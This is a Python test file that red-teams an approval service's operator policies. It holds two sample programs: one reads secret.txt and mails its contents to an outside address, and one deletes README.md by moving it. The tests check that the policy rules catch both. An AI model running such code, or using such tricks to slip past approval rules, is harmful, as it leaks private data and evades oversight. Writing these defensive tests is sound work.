"""Red team of issue 19's operator policies: an allow rule about emails meets a program that reads a file
and mails its content (exfiltration), and a deny rule meets a program that deletes by moving. Real
``clauz3 approval-service`` with the policy, real ``clauz3 run``, real files."""

from __future__ import annotations

from pathlib import Path

from test_issue19_automatic import (
    HEAD,
    NO_DELETES,
    Run,
    Service,
    card,
    make_data,
    make_project,
    policy_service,
    policy_world,
)

__all__ = ["policy_world"]  # the module-scoped world: allow rule "at most 3 emails"

EXFIL = HEAD + 'def main() -> None:\n    send_email("bob@example.com", fs.read_file("secret.txt"))\n'
MOVES = HEAD + 'def main() -> None:\n    fs.move("README.md", "gone.md")\n'


def test_an_email_rule_does_not_approve_mailing_a_file_it_reads(policy_world: tuple[Path, Path, Service]) -> None:
    project, data, at_most_3 = policy_world
    (project / "secret.txt").write_text("the person's secret\n")
    run = Run(project, data, at_most_3, EXFIL, "req_exfil_read")
    record = card(at_most_3, run)
    assert record["state"] == "pending" and record["decision"] is None, record
    assert "read_file" in record["automatic"]["not_decided"][0]["text"], record["automatic"]
    at_most_3.decide("req_exfil_read", "rejected")
    code, out = run.wait()
    assert code != 0 and "the person's secret" not in out, out


def test_a_no_deletes_deny_rule_also_refuses_a_move(tmp_path: Path) -> None:
    """Moving README.md away removes it as surely as remove does: the deny rule must see it."""
    project, data = make_project(tmp_path), make_data(tmp_path)
    service = policy_service(project, data, NO_DELETES)
    try:
        code, out = Run(project, data, service, MOVES, "req_move_away").wait()
        record = service.records()["req_move_away"]
        assert record["decision"] == "auto_rejected" and record["rule"]["name"] == "never-delete", record
        assert code != 0 and (project / "README.md").exists(), out
    finally:
        service.close()
